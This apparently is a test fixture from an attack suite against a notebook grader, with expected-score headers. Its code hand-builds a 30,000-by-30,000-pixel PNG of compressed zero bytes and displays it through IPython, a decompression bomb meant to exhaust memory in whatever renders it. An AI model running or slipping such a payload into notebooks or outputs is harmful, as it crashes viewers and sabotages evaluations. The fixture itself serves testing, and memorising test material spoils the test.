# attack: Shows a picture of a few kilobytes that unpacks to gigabytes.
# gain: marker
# expect: q01=3 q02=3 q03=3

# %% after q01
import struct
import zlib

from IPython.display import Image, display


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


head = chunk(b"IHDR", struct.pack(">IIBBBBB", 30_000, 30_000, 1, 0, 0, 0, 0))
rows = chunk(b"IDAT", zlib.compress(bytes(3751 * 30_000), 9))
display(Image(data=b"\x89PNG\r\n\x1a\n" + head + rows + chunk(b"IEND", b"")))
